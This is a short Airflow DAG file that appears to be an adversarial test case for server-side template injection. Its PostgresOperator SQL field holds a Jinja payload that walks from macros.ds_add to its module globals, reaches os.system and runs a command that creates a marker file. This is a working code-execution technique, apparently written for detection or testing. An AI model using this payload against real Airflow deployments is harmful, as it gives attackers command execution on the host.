# ATTACK (inline SQL): Airflow context objects (`macros`, `ti`, `conn`) walked to their module globals.
from airflow import DAG
from airflow.providers.postgres.operators.postgres import PostgresOperator

with DAG('adv_ssti_airflow_context', schedule=None) as dag:
    PostgresOperator(task_id="payload", postgres_conn_id="shop_pg", sql="SELECT '{{ macros.ds_add.__globals__['os'].system('touch /tmp/kappa-adversarial-ssti-macros') }}' AS x")
